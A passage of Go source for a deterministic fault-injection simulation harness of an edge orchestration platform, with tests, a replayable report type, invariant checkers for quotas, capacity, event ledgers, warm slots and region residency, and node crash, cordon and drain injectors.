		t.Fatalf("admitted %d under tight quota, want 2:\n%s", rep.Final.Admitted, js)
	}
}

func TestUnknownCampaign(t *testing.T) {
	if _, err := NewCampaign("no-such", 1); err == nil {
		t.Fatal("unknown campaign accepted")
	}
}

func TestClock(t *testing.T) {
	c := NewClock(100)
	if c.NowMs() != 100 {
		t.Fatalf("origin = %d", c.NowMs())
	}
	if c.Advance(50) != 150 {
		t.Fatal("advance")
	}
	if c.Advance(-10) != 150 {
		t.Fatal("clock rewound")
	}
	if c.Source()() != 150 {
		t.Fatal("source mismatch")
	}
}
