package sim

// The report is the replayable artifact of a run. Everything in it is a
// pure function of (scenario, seed): step outcomes, the virtual timeline,
// verdict and incident tallies. Deliberately absent: wall-clock times,
// goroutine-order-dependent sequences (raw incident logs), and key
// material — the things that would break byte-identical replay.

import (
	"encoding/json"

	"genio/internal/orchestrator/warmpool"
)

// Report is the full record of one scenario run.
type Report struct {
	Scenario   string       `json:"scenario"`
	Seed       int64        `json:"seed"`
	Posture    string       `json:"posture"` // secure | legacy | custom
	Steps      []StepReport `json:"steps"`
	Invariants []string     `json:"invariants"`
	Violations int          `json:"violations"`
	Passed     bool         `json:"passed"`
	Final      FinalState   `json:"final"`
}

// StepReport records one step: what it did, when (virtual time), and any
// invariant violations present afterwards.
type StepReport struct {
	Index      int      `json:"index"`
	Name       string   `json:"name"`
	AtMs       int64    `json:"atMs"`
	Status     string   `json:"status"`
	Detail     string   `json:"detail,omitempty"`
	Violations []string `json:"violations,omitempty"`
}

// FinalState summarizes the platform when the scenario ends.
type FinalState struct {
	VirtualMs int64          `json:"virtualMs"`
	LiveNodes []string       `json:"liveNodes"`
	Workloads int            `json:"workloads"`
	Admitted  int            `json:"admitted"`
	Rejected  int            `json:"rejected"`
	Incidents map[string]int `json:"incidentsBySource"` // json sorts keys
	// Events tallies spine publishes per topic. Deterministic under the
	// Block backpressure policy every stock campaign runs with.
	Events map[string]uint64 `json:"eventsByTopic,omitempty"`
	// WarmSlots carries the run's cumulative warm-pool counters
	// (hits/misses/evictions/flushes summed across KillRestart rebuilds,
	// since the pool itself restarts cold). Nil when the scenario never
	// touched the warm pool, so non-warm campaign reports are unchanged.
	WarmSlots *warmpool.Counters `json:"warmSlots,omitempty"`
}

// JSON renders the report with stable formatting (and, via encoding/json,
// stable map-key ordering), so identical runs are byte-identical.
func (r *Report) JSON() ([]byte, error) {
	return json.MarshalIndent(r, "", "  ")
}
