package sim

// Wire-campaign coverage beyond the generic determinism gates: the
// storm must genuinely cross the HTTP stack (placements, rejections,
// AND cancellations over the wire), the ledger probe must observe the
// lifecycle topic through GET /v2/ledger, and the two event-accounting
// invariants the ISSUE names must be wired and clean.

import (
	"strings"
	"testing"

	"genio/internal/core"
	"genio/internal/orchestrator"
)

// TestWireDeployStormCrossesTheWire: across seeds the campaign passes
// with the lifecycle-ledger-balanced and no-silent-event-drops
// invariants wired, sees wire-side admissions, denials and
// cancellations, and the wire ledger probe reports lifecycle traffic.
func TestWireDeployStormCrossesTheWire(t *testing.T) {
	for seed := int64(1); seed <= 3; seed++ {
		rep, js := runJSON(t, "wire-deploy-storm", seed)
		if !rep.Passed {
			t.Fatalf("seed %d violated invariants:\n%s", seed, js)
		}
		wantInv := map[string]bool{
			"lifecycle-ledger-balanced": false,
			"no-silent-event-drops":     false,
			"cancelled-never-placed":    false,
		}
		for _, inv := range rep.Invariants {
			if _, ok := wantInv[inv]; ok {
				wantInv[inv] = true
			}
		}
		for name, found := range wantInv {
			if !found {
				t.Fatalf("seed %d: invariant %s not wired", seed, name)
			}
		}
		var admitted, denied, cancelled, probed bool
		for _, step := range rep.Steps {
			switch {
			case strings.HasPrefix(step.Name, "wire-deploy"):
				if step.Status == "admitted" || strings.Contains(step.Detail, "admitted=") {
					admitted = true
				}
				if step.Status == "denied" || strings.Contains(step.Detail, "denied=") {
					denied = true
				}
			case step.Name == "wire-cancel-storm":
				if strings.Contains(step.Detail, "cancelled=") {
					cancelled = true
				}
			case step.Name == "wire-ledger-probe":
				if step.Status != "ok" {
					t.Fatalf("seed %d: ledger probe failed: %s", seed, step.Detail)
				}
				if !strings.Contains(step.Detail, "published=") {
					t.Fatalf("seed %d: ledger probe reported no publish count: %s", seed, step.Detail)
				}
				probed = true
			}
			if step.Status == "error" {
				t.Fatalf("seed %d: step %s errored: %s", seed, step.Name, step.Detail)
			}
		}
		if !admitted || !denied || !cancelled {
			t.Fatalf("seed %d: storm did not exercise the wire (admitted=%v denied=%v cancelled=%v):\n%s",
				seed, admitted, denied, cancelled, js)
		}
		if !probed {
			t.Fatalf("seed %d: no wire-ledger-probe step ran:\n%s", seed, js)
		}
		if rep.Final.Events["deploy.lifecycle"] == 0 {
			t.Fatalf("seed %d: no deploy.lifecycle events in final ledger:\n%s", seed, js)
		}
	}
}

// TestWireStepsRequireWireScenario: Wire* steps in a scenario without
// Wire: true report a harness error instead of panicking on a nil
// client.
func TestWireStepsRequireWireScenario(t *testing.T) {
	sc := Scenario{
		Name: "wireless", Seed: 1, Config: core.SecureConfig(),
		Steps: []Step{
			JoinNode(orchestrator.Resources{CPUMilli: 4000, MemoryMB: 8192}),
			WireDeploy("acme", CleanImageRef, orchestrator.IsolationSoft,
				orchestrator.Resources{CPUMilli: 500, MemoryMB: 512}),
		},
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	last := rep.Steps[len(rep.Steps)-1]
	if last.Status != "error" || !strings.Contains(last.Detail, "non-wire scenario") {
		t.Fatalf("expected a non-wire-scenario error, got %q / %q", last.Status, last.Detail)
	}
}
