package sim

// Invariant checkers run after every step, whatever the step did — that
// is the point of the harness: fault handling must keep the platform's
// dependability properties at every intermediate state, not just at the
// end of a campaign.

import (
	"fmt"
	"sort"

	"genio/internal/events"
	"genio/internal/orchestrator"
)

// Invariant is one property checked against the world after each step.
// Check returns a description per violation found (empty = holds).
type Invariant struct {
	Name  string
	Check func(w *World) []string
}

// DefaultInvariants returns the stock checker set.
func DefaultInvariants() []Invariant {
	return []Invariant{
		NoQuotaOversubscription(),
		NoDeadNodePlacement(),
		NoCapacityOversubscription(),
		IncidentCountsMonotone(),
		AdmissionDeterminism(),
		NoSilentEventDrops(),
		CancelledNeverPlaced(),
		LifecycleLedgerBalanced(),
		PlacementPolicyRespected(),
		NoDrainLeaksCapacity(),
		WarmSlotsNeverLeak(),
		NoCrossRegionLeak(),
		RecoveryExact(),
	}
}

// clusterTag prefixes a violation message with the owning cluster in
// federated runs. Outside federation mode it is empty, so single-cluster
// reports keep their exact pre-federation wording.
func clusterTag(w *World, c *orchestrator.Cluster) string {
	if w.Platform.Federation == nil {
		return ""
	}
	return "cluster " + c.Name + ": "
}

// NoQuotaOversubscription: a tenant's reported usage never exceeds an
// explicitly-set quota, whatever storm of concurrent or failed deploys
// ran. Under federation the platform mirrors quotas to every member and
// enforces them per cluster, so the check runs per member too.
func NoQuotaOversubscription() Invariant {
	return Invariant{Name: "no-quota-oversubscription", Check: func(w *World) []string {
		var out []string
		tenants := make([]string, 0, len(w.Quotas))
		for t := range w.Quotas {
			tenants = append(tenants, t)
		}
		sort.Strings(tenants)
		for _, t := range tenants {
			q := w.Quotas[t]
			if q.CPUMilli <= 0 && q.MemoryMB <= 0 {
				continue
			}
			for _, c := range w.Clusters() {
				use := c.TenantUsage(t)
				if use.CPUMilli > q.CPUMilli || use.MemoryMB > q.MemoryMB {
					out = append(out, fmt.Sprintf(
						"%stenant %s uses cpu=%dm mem=%dMB over quota cpu=%dm mem=%dMB",
						clusterTag(w, c), t, use.CPUMilli, use.MemoryMB, q.CPUMilli, q.MemoryMB))
				}
			}
		}
		return out
	}}
}

// NoDeadNodePlacement: every running workload sits on a node both the
// cluster and the scenario script agree is alive — the two live sets
// must be equal, in both directions.
func NoDeadNodePlacement() Invariant {
	return Invariant{Name: "no-dead-node-placement", Check: func(w *World) []string {
		var out []string
		// The script's Live set spans the whole federation; the cluster
		// side is the union over members (a node lives in exactly one).
		clusterLive := map[string]bool{}
		for _, c := range w.Clusters() {
			for _, n := range c.Nodes() {
				clusterLive[n] = true
				if !w.Live[n] {
					out = append(out, fmt.Sprintf("%scluster reports node %s alive; script crashed it",
						clusterTag(w, c), n))
				}
			}
		}
		for _, n := range w.LiveNodes() {
			if !clusterLive[n] {
				out = append(out, fmt.Sprintf("cluster lost node %s the script considers alive", n))
			}
		}
		for _, c := range w.Clusters() {
			for _, wl := range c.Workloads() {
				if !clusterLive[wl.Node] {
					out = append(out, fmt.Sprintf("%sworkload %s placed on dead node %s",
						clusterTag(w, c), wl.Spec.Name, wl.Node))
				}
			}
		}
		return out
	}}
}

// NoCapacityOversubscription: no node's accounted usage exceeds its
// capacity after any sequence of placements, failovers, and stops.
func NoCapacityOversubscription() Invariant {
	return Invariant{Name: "no-capacity-oversubscription", Check: func(w *World) []string {
		var out []string
		for _, c := range w.Clusters() {
			for _, u := range c.Utilization() {
				if u.Used.CPUMilli > u.Capacity.CPUMilli || u.Used.MemoryMB > u.Capacity.MemoryMB {
					out = append(out, fmt.Sprintf(
						"%snode %s used cpu=%dm mem=%dMB over capacity cpu=%dm mem=%dMB",
						clusterTag(w, c), u.Node, u.Used.CPUMilli, u.Used.MemoryMB, u.Capacity.CPUMilli, u.Capacity.MemoryMB))
				}
				if u.Used.CPUMilli < 0 || u.Used.MemoryMB < 0 {
					out = append(out, fmt.Sprintf("%snode %s usage went negative: %+v",
						clusterTag(w, c), u.Node, u.Used))
				}
			}
		}
		return out
	}}
}

// IncidentCountsMonotone: the incident log only grows — no fault path may
// lose or rewrite recorded security history — and the simulator's own
// spine subscription (wired by Engine.Run) must have seen exactly the
// events the materialised log holds: after a Flush, no subscriber lags
// the platform's own view.
func IncidentCountsMonotone() Invariant {
	return Invariant{Name: "incident-counts-monotone", Check: func(w *World) []string {
		var out []string
		w.Platform.Flush()
		total := len(w.Platform.Incidents())
		if total < w.incidentTotal {
			out = append(out, fmt.Sprintf("incident count shrank: %d -> %d", w.incidentTotal, total))
		}
		w.incidentTotal = total
		if seen := int(w.seenIncidents.Load()); seen != total {
			out = append(out, fmt.Sprintf(
				"spine subscription saw %d incidents; platform log holds %d", seen, total))
		}
		return out
	}}
}

// NoSilentEventDrops: the spine's per-topic ledger balances after every
// step — everything published was delivered once flushed, nothing is
// dropped under the Block policy, and under the Drop policy losses are
// exactly the drop counters (never silent).
func NoSilentEventDrops() Invariant {
	return Invariant{Name: "no-silent-event-drops", Check: func(w *World) []string {
		var out []string
		w.Platform.Flush()
		stats := w.Platform.Metrics()
		for _, topic := range stats.Topics() {
			ts := stats[topic]
			if ts.Delivered != ts.Published {
				out = append(out, fmt.Sprintf(
					"topic %s: published=%d delivered=%d after flush", topic, ts.Published, ts.Delivered))
			}
			// Policy is per topic: incidents are pinned to Block even on
			// Drop-default platforms, so the security log must never
			// show a drop.
			if w.Platform.EventPolicyFor(topic) == events.Block && ts.Dropped > 0 {
				out = append(out, fmt.Sprintf(
					"topic %s: %d events dropped under block policy", topic, ts.Dropped))
			}
			// Accounted-loss floor: the ledger must cover at least what
			// the script itself offered (other producers only add), or a
			// publish vanished without being counted published, dropped,
			// or filtered.
			if offered := w.offeredEvents[string(topic)]; ts.Published+ts.Dropped+ts.Filtered < offered {
				out = append(out, fmt.Sprintf(
					"topic %s: script offered %d events but ledger accounts %d published + %d dropped + %d filtered",
					topic, offered, ts.Published, ts.Dropped, ts.Filtered))
			}
		}
		return out
	}}
}

// CancelledNeverPlaced: a deployment whose future terminated cancelled
// must never exist in the cluster — cancellation beats placement or it
// is not cancellation. Checked against both the live workload table and
// (transitively) every later step, since the set only grows.
func CancelledNeverPlaced() Invariant {
	return Invariant{Name: "cancelled-never-placed", Check: func(w *World) []string {
		var out []string
		names := make([]string, 0, len(w.cancelled))
		for n := range w.cancelled {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			for _, c := range w.Clusters() {
				if _, placed := c.Workload(n); placed {
					out = append(out, fmt.Sprintf("%scancelled deployment %s is placed in the cluster",
						clusterTag(w, c), n))
				}
			}
		}
		return out
	}}
}

// LifecycleLedgerBalanced: after a flush, every async deployment the
// script drove to completion has exactly one terminal deploy.lifecycle
// event on the spine — none lost, none duplicated — and no workload
// anywhere has more than one.
func LifecycleLedgerBalanced() Invariant {
	return Invariant{Name: "lifecycle-ledger-balanced", Check: func(w *World) []string {
		var out []string
		w.Platform.Flush()
		names := make([]string, 0, len(w.asyncDone))
		for n := range w.asyncDone {
			names = append(names, n)
		}
		sort.Strings(names)
		for _, n := range names {
			if got := w.terminalCount(n); got != 1 {
				out = append(out, fmt.Sprintf(
					"deployment %s has %d terminal lifecycle events, want exactly 1", n, got))
			}
		}
		for _, n := range w.terminalOvercounts() {
			if !w.asyncDone[n] {
				out = append(out, fmt.Sprintf(
					"workload %s has multiple terminal lifecycle events", n))
			}
		}
		return out
	}}
}

// PlacementPolicyRespected: the cluster's placement decisions honour
// the scripted policy surface — every running workload carries exactly
// the strategy its spec requested (or the cluster default when it
// requested none), and no workload was placed onto a node at or after
// that node's cordon time (cordon times are scripted, placements are
// clock-stamped, so the comparison is exact under the virtual clock).
func PlacementPolicyRespected() Invariant {
	return Invariant{Name: "placement-policy-respected", Check: func(w *World) []string {
		var out []string
		for _, c := range w.Clusters() {
			defaultStrategy := c.Settings.PlacementStrategy
			if defaultStrategy == "" {
				defaultStrategy = orchestrator.PlacementBinpack
			}
			for _, wl := range c.Workloads() {
				want := w.policies[wl.Spec.Name]
				if want == "" {
					want = defaultStrategy
				}
				if wl.Strategy == "warm" {
					// The warm fast path bypasses strategy scoring by design
					// (the slot's placement was scored when the VM was first
					// created). The claim-to-workload binding itself is audited
					// by warm-slots-never-leak; it cannot be demanded here
					// because a kill-restart recovers "warm" placements while
					// the pool deliberately restarts cold.
				} else if wl.Strategy != want {
					out = append(out, fmt.Sprintf(
						"%sworkload %s placed under strategy %q, policy requested %q",
						clusterTag(w, c), wl.Spec.Name, wl.Strategy, want))
				}
				if since, cordoned := w.Cordoned[wl.Node]; cordoned && wl.PlacedAtMs >= since {
					out = append(out, fmt.Sprintf(
						"%sworkload %s placed on %s at t=%dms, cordoned since t=%dms",
						clusterTag(w, c), wl.Spec.Name, wl.Node, wl.PlacedAtMs, since))
				}
			}
		}
		return out
	}}
}

// NoDrainLeaksCapacity: whatever sequence of drains (completed,
// cancelled mid-migration, blocked on capacity) ran, the cluster's
// accounting must remain derivable from the workload table — per-node
// usage and workload counts equal the sum over placements, per-tenant
// usage equals the sum over tenant specs, and the VM table and workload
// table reference each other exactly (no vacated slot left behind, no
// workload without its VM).
func NoDrainLeaksCapacity() Invariant {
	return Invariant{Name: "no-drain-leaks-capacity", Check: func(w *World) []string {
		var out []string
		for _, cluster := range w.Clusters() {
			out = append(out, drainLeakViolations(w, cluster)...)
		}
		sort.Strings(out)
		return out
	}}
}

// drainLeakViolations recomputes one cluster's accounting from its
// workload table (the body of NoDrainLeaksCapacity, run per federation
// member).
func drainLeakViolations(w *World, cluster *orchestrator.Cluster) []string {
	var out []string
	tag := clusterTag(w, cluster)
	workloads := cluster.Workloads()
	wantUsed := map[string]orchestrator.Resources{}
	wantCount := map[string]int{}
	wantTenant := map[string]orchestrator.Resources{}
	byName := map[string]*orchestrator.Workload{}
	for _, wl := range workloads {
		wantUsed[wl.Node] = wantUsed[wl.Node].Add(wl.Spec.Resources)
		wantCount[wl.Node]++
		wantTenant[wl.Spec.Tenant] = wantTenant[wl.Spec.Tenant].Add(wl.Spec.Resources)
		byName[wl.Spec.Name] = wl
	}
	// Idle warm slots hold node reservations without a workload (that
	// is the warm pool's contract); they count toward node usage but
	// never toward tenant quota or workload counts.
	for _, s := range cluster.WarmIdleSlots() {
		wantUsed[s.Node] = wantUsed[s.Node].Add(s.Res)
	}
	for _, u := range cluster.Utilization() {
		if u.Used != wantUsed[u.Node] {
			out = append(out, fmt.Sprintf(
				"%snode %s accounts cpu=%dm mem=%dMB; its workloads sum to cpu=%dm mem=%dMB",
				tag, u.Node, u.Used.CPUMilli, u.Used.MemoryMB,
				wantUsed[u.Node].CPUMilli, wantUsed[u.Node].MemoryMB))
		}
		if u.Workloads != wantCount[u.Node] {
			out = append(out, fmt.Sprintf(
				"%snode %s reports %d workloads, table holds %d", tag, u.Node, u.Workloads, wantCount[u.Node]))
		}
	}
	tenantSet := map[string]bool{}
	for t := range wantTenant {
		tenantSet[t] = true
	}
	for t := range w.Quotas {
		tenantSet[t] = true // catches usage stranded after every workload left
	}
	tenants := make([]string, 0, len(tenantSet))
	for t := range tenantSet {
		tenants = append(tenants, t)
	}
	sort.Strings(tenants)
	for _, t := range tenants {
		// Usage may exceed the workload sum only by in-flight pending
		// reservations; between sequential sim steps there are none.
		if got := cluster.TenantUsage(t); got != wantTenant[t] {
			out = append(out, fmt.Sprintf(
				"%stenant %s accounts cpu=%dm mem=%dMB; placed workloads sum to cpu=%dm mem=%dMB",
				tag, t, got.CPUMilli, got.MemoryMB, wantTenant[t].CPUMilli, wantTenant[t].MemoryMB))
		}
	}
	seenInVMs := map[string]bool{}
	sharedByNode := map[string]int{}
	for _, vm := range cluster.VMs() {
		if !vm.Dedicated {
			sharedByNode[vm.Node]++
		}
		for _, wl := range vm.Workloads {
			seenInVMs[wl] = true
			owner, ok := byName[wl]
			if !ok {
				out = append(out, fmt.Sprintf("%svm %s holds unknown workload %s", tag, vm.ID, wl))
				continue
			}
			if owner.VMID != vm.ID || owner.Node != vm.Node {
				out = append(out, fmt.Sprintf(
					"%sworkload %s maps to vm %s on %s but sits in vm %s on %s",
					tag, wl, owner.VMID, owner.Node, vm.ID, vm.Node))
			}
		}
	}
	for name := range byName {
		if !seenInVMs[name] {
			out = append(out, fmt.Sprintf("%sworkload %s has no VM slot", tag, name))
		}
	}
	// The hand-maintained shared-VM counter (a scheduler input:
	// SecurityPostureScore) must agree with a recount of the VM
	// table, or posture scoring silently drifts.
	for _, u := range cluster.Utilization() {
		if u.SharedVMs != sharedByNode[u.Node] {
			out = append(out, fmt.Sprintf(
				"%snode %s counts %d shared VMs; VM table holds %d", tag, u.Node, u.SharedVMs, sharedByNode[u.Node]))
		}
	}
	return out
}

// WarmSlotsNeverLeak: full warm-pool accounting recompute after every
// step. Every idle slot is parked on exactly one live, uncordoned node
// and its VM id is absent from the live VM table (a parked VM is not
// schedulable state); every claimed binding names exactly one live
// workload whose placement (node and VM id) matches the slot it
// claimed; and no two slots — idle or claimed — share a VM id, so a
// slot can never be double-booked. Nodes the script crashed or drained
// hold no idle slots at all.
func WarmSlotsNeverLeak() Invariant {
	return Invariant{Name: "warm-slots-never-leak", Check: func(w *World) []string {
		var out []string
		for _, cluster := range w.Clusters() {
			out = append(out, warmSlotViolations(w, cluster)...)
		}
		sort.Strings(out)
		return out
	}}
}

// warmSlotViolations audits one cluster's warm pool (the body of
// WarmSlotsNeverLeak, run per federation member — pools are strictly
// per cluster, so each audit is self-contained).
func warmSlotViolations(w *World, cluster *orchestrator.Cluster) []string {
	var out []string
	tag := clusterTag(w, cluster)
	clusterLive := map[string]bool{}
	cordoned := map[string]bool{}
	for _, u := range cluster.Utilization() {
		clusterLive[u.Node] = true
		cordoned[u.Node] = u.Cordoned
	}
	liveVMs := map[string]string{} // vm id -> node
	for _, vm := range cluster.VMs() {
		liveVMs[vm.ID] = vm.Node
	}
	byName := map[string]*orchestrator.Workload{}
	for _, wl := range cluster.Workloads() {
		byName[wl.Spec.Name] = wl
	}
	seenVM := map[string]string{} // vm id -> "idle"/workload name
	for _, s := range cluster.WarmIdleSlots() {
		switch {
		case !clusterLive[s.Node]:
			out = append(out, fmt.Sprintf("%sidle warm slot %s parked on dead node %s", tag, s.VMID, s.Node))
		case cordoned[s.Node]:
			out = append(out, fmt.Sprintf("%sidle warm slot %s parked on cordoned node %s", tag, s.VMID, s.Node))
		}
		if node, live := liveVMs[s.VMID]; live {
			out = append(out, fmt.Sprintf(
				"%sidle warm slot %s also exists as a live VM on %s", tag, s.VMID, node))
		}
		if prev, dup := seenVM[s.VMID]; dup {
			out = append(out, fmt.Sprintf("%svm %s booked twice in the warm pool (%s and idle)", tag, s.VMID, prev))
		}
		seenVM[s.VMID] = "idle"
	}
	claims := cluster.WarmClaims()
	for _, cl := range claims {
		wl, ok := byName[cl.Workload]
		if !ok {
			out = append(out, fmt.Sprintf(
				"%swarm claim for %s names a workload not in the cluster", tag, cl.Workload))
			continue
		}
		if wl.Node != cl.Slot.Node || wl.VMID != cl.Slot.VMID {
			out = append(out, fmt.Sprintf(
				"%swarm claim for %s records vm %s on %s; workload runs in vm %s on %s",
				tag, cl.Workload, cl.Slot.VMID, cl.Slot.Node, wl.VMID, wl.Node))
		}
		if prev, dup := seenVM[cl.Slot.VMID]; dup {
			out = append(out, fmt.Sprintf(
				"%svm %s booked twice in the warm pool (%s and %s)", tag, cl.Slot.VMID, prev, cl.Workload))
		}
		seenVM[cl.Slot.VMID] = cl.Workload
	}
	return out
}

// NoCrossRegionLeak: data residency holds at every intermediate state of
// a federated run — no workload of a pinned tenant ever sits in a
// cluster outside its pinned region, and no workload whose spec
// requested a region ever sits outside it. Placement routing, overflow,
// failover, and evacuation all must preserve this; outside federation
// mode the check is vacuous.
func NoCrossRegionLeak() Invariant {
	return Invariant{Name: "no-cross-region-leak", Check: func(w *World) []string {
		fed := w.Platform.Federation
		if fed == nil {
			return nil
		}
		var out []string
		pins := fed.Pins()
		for _, m := range w.Platform.Clusters() {
			c, err := w.Platform.ClusterByName(m.Name)
			if err != nil {
				continue
			}
			for _, wl := range c.Workloads() {
				if want, pinned := pins[wl.Spec.Tenant]; pinned && m.Region != want {
					out = append(out, fmt.Sprintf(
						"cluster %s (region %s): workload %s of tenant %s leaked out of pinned region %s",
						m.Name, m.Region, wl.Spec.Name, wl.Spec.Tenant, want))
				}
				if wl.Spec.Region != "" && wl.Spec.Region != m.Region {
					out = append(out, fmt.Sprintf(
						"cluster %s (region %s): workload %s requested region %s",
						m.Name, m.Region, wl.Spec.Name, wl.Spec.Region))
				}
			}
		}
		return out
	}}
}

// RecoveryExact: a kill-restart recovers the durable control-plane state
// byte for byte — placements, quotas, cordons, verdict cache, and the
// incident ledger after recovery must equal the pre-crash fingerprint the
// KillRestart step captured. The step records divergences; this invariant
// surfaces them (and, like admission-determinism, drains as it reports).
func RecoveryExact() Invariant {
	return Invariant{Name: "recovery-exact", Check: func(w *World) []string {
		out := w.recoveryDiffs
		w.recoveryDiffs = nil
		return out
	}}
}

// AdmissionDeterminism: deploys of the same image ref always produce the
// same content-determined verdict (admission chain and signature checks),
// whatever the parallelism or cache state. The deploy injectors record
// verdicts; this invariant surfaces any flip they observed.
func AdmissionDeterminism() Invariant {
	return Invariant{Name: "admission-determinism", Check: func(w *World) []string {
		out := w.violations
		w.violations = nil
		return out
	}}
}
