package sim

// Composable fault injectors: each constructor returns a Step that drives
// one fault (or one piece of legitimate traffic) into the platform. A
// campaign is just a sequence of these; anything a step observes goes
// into the report verbatim, and the invariant checkers run after every
// step regardless of outcome.

import (
	"context"
	"errors"
	"fmt"
	"sort"

	"genio/internal/container"
	"genio/internal/core"
	"genio/internal/events"
	"genio/internal/federation"
	"genio/internal/orchestrator"
	"genio/internal/trace"
)

// JoinNode provisions a fresh edge node (name from the world's
// deterministic sequence) through the full M1–M9 pipeline.
func JoinNode(capacity orchestrator.Resources) Step {
	return Step{Name: "node-join", Run: func(w *World) Outcome {
		name := w.NextNodeName()
		if _, err := w.Platform.AddEdgeNode(name, capacity); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("join %s: %v", name, err)}
		}
		w.Live[name] = true
		return okf("node %s joined (cpu=%dm mem=%dMB)", name, capacity.CPUMilli, capacity.MemoryMB)
	}}
}

// CrashNode fails a named node: workloads are rescheduled onto survivors
// or evicted, per the orchestrator's failover path.
func CrashNode(name string) Step {
	return Step{Name: "node-crash", Run: func(w *World) Outcome {
		return crash(w, name)
	}}
}

// CrashRandomNode fails a random live node (no-op outcome when none are
// left — a valid state during failover storms).
func CrashRandomNode() Step {
	return Step{Name: "node-crash-random", Run: func(w *World) Outcome {
		live := w.LiveNodes()
		if len(live) == 0 {
			return okf("no live nodes to crash")
		}
		return crash(w, live[w.Rand.Intn(len(live))])
	}}
}

func crash(w *World, name string) Outcome {
	// The node lives in exactly one federation member; fail it there
	// (the default cluster outside federation mode).
	res, err := w.clusterOf(name).FailNode(name)
	if err != nil {
		return Outcome{Status: "error", Detail: fmt.Sprintf("crash %s: %v", name, err)}
	}
	delete(w.Live, name)
	delete(w.Cordoned, name)
	return Outcome{Status: "failed-over", Detail: fmt.Sprintf(
		"node %s down: %d rescheduled, %d evicted", name, len(res.Rescheduled), len(res.Evicted))}
}

// CordonRandomNode cordons a random live, not-yet-cordoned node. The
// clock ticks first so cordon times strictly order against placements.
func CordonRandomNode() Step {
	return Step{Name: "node-cordon", Run: func(w *World) Outcome {
		candidates := w.schedulableNodes()
		if len(candidates) == 0 {
			return okf("no schedulable nodes to cordon")
		}
		name := candidates[w.Rand.Intn(len(candidates))]
		w.Clock.Advance(1)
		if err := w.Platform.Cordon(name); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("cordon %s: %v", name, err)}
		}
		w.Cordoned[name] = w.Clock.NowMs()
		return okf("node %s cordoned", name)
	}}
}

// UncordonRandomNode returns a random cordoned node to the pool.
func UncordonRandomNode() Step {
	return Step{Name: "node-uncordon", Run: func(w *World) Outcome {
		var cordoned []string
		for _, n := range w.LiveNodes() {
			if _, ok := w.Cordoned[n]; ok {
				cordoned = append(cordoned, n)
			}
		}
		if len(cordoned) == 0 {
			return okf("no cordoned nodes")
		}
		name := cordoned[w.Rand.Intn(len(cordoned))]
		w.Clock.Advance(1)
		if err := w.Platform.Uncordon(name); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("uncordon %s: %v", name, err)}
		}
		delete(w.Cordoned, name)
		return okf("node %s uncordoned", name)
	}}
}

// DrainRandomNode drains a random live node through the scheduler.
// cancelAfter >= 0 cancels the drain's context after that many
// migrations — deterministic, because migrations are ordered and the
// drain checks its context at every migration boundary. The injector
// mirrors the cluster's rollback contract in the scripted cordon state.
func DrainRandomNode(cancelAfter int) Step {
	return Step{Name: "node-drain", Run: func(w *World) Outcome {
		live := w.LiveNodes()
		if len(live) == 0 {
			return okf("no live nodes to drain")
		}
		name := live[w.Rand.Intn(len(live))]
		return drainNode(w, name, cancelAfter)
	}}
}

// DrainWarmestNode drains the live node holding the most idle warm
// slots (ties broken by name, so the choice is deterministic). This is
// how a campaign guarantees the drain→warm-flush path runs: the drain
// must discard the node's parked slots before its migration accounting,
// and warm-slots-never-leak checks none survive on the cordoned node.
func DrainWarmestNode(cancelAfter int) Step {
	return Step{Name: "node-drain-warmest", Run: func(w *World) Outcome {
		idle := map[string]int{}
		for _, s := range w.Platform.Cluster.WarmIdleSlots() {
			idle[s.Node]++
		}
		live := w.LiveNodes()
		if len(live) == 0 {
			return okf("no live nodes to drain")
		}
		sort.Strings(live)
		name, best := live[0], -1
		for _, n := range live {
			if idle[n] > best {
				name, best = n, idle[n]
			}
		}
		return drainNode(w, name, cancelAfter)
	}}
}

func drainNode(w *World, name string, cancelAfter int) Outcome {
	w.Clock.Advance(1)
	_, wasCordoned := w.Cordoned[name]
	if !wasCordoned {
		// Drain applies the cordon itself; mirror it with the time the
		// drain starts.
		w.Cordoned[name] = w.Clock.NowMs()
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	if cancelAfter == 0 {
		cancel() // cancelled before the first migration boundary
	}
	migrated := 0
	// Drain through the platform surface, not the bare cluster, so
	// campaigns exercise the node.drain spine topic and drain
	// metrics alongside the migration mechanics.
	res, err := w.Platform.DrainObserved(ctx, name, func(ev orchestrator.DrainEvent) {
		if ev.Phase == orchestrator.DrainMigrated {
			w.Clock.Advance(1)
			if migrated++; migrated == cancelAfter {
				cancel()
			}
		}
	})
	switch {
	case err == nil:
		return Outcome{Status: "drained", Detail: fmt.Sprintf(
			"node %s drained: %d migrated", name, len(res.Migrated))}
	case errors.Is(err, orchestrator.ErrCancelled):
		if !wasCordoned {
			delete(w.Cordoned, name) // the drain rolled its cordon back
		}
		return Outcome{Status: "drain-cancelled", Detail: fmt.Sprintf(
			"node %s: %d migrated, %d remaining", name, len(res.Migrated), len(res.Remaining))}
	case errors.Is(err, orchestrator.ErrNoCapacity):
		if !wasCordoned {
			delete(w.Cordoned, name)
		}
		return Outcome{Status: "drain-blocked", Detail: fmt.Sprintf(
			"node %s: %d migrated, %d remaining: %v", name, len(res.Migrated), len(res.Remaining), err)}
	default:
		return Outcome{Status: "error", Detail: fmt.Sprintf("drain %s: %v", name, err)}
	}
}

// PlacementSpreadReport snapshots how the running workloads distribute
// across nodes — the observable difference between binpack and spread
// phases of a campaign, recorded verbatim in the report.
func PlacementSpreadReport() Step {
	return Step{Name: "placement-spread", Run: func(w *World) Outcome {
		counts := map[string]int{}
		total := 0
		for _, c := range w.Clusters() {
			for _, wl := range c.Workloads() {
				counts[wl.Node]++
				total++
			}
		}
		nodes := w.LiveNodes()
		maxShare := 0
		detail := fmt.Sprintf("%d workloads:", total)
		for _, n := range nodes {
			detail += fmt.Sprintf(" %s=%d", n, counts[n])
			if counts[n] > maxShare {
				maxShare = counts[n]
			}
		}
		if total > 0 {
			detail += fmt.Sprintf(" (hottest holds %d%%)", maxShare*100/total)
		}
		return okf("%s", detail)
	}}
}

// Deploy submits one workload (auto-named) through the full admission
// pipeline and records its verdict for the determinism invariant.
func Deploy(tenant, ref string, iso orchestrator.IsolationMode, res orchestrator.Resources) Step {
	return Step{Name: "deploy", Run: func(w *World) Outcome {
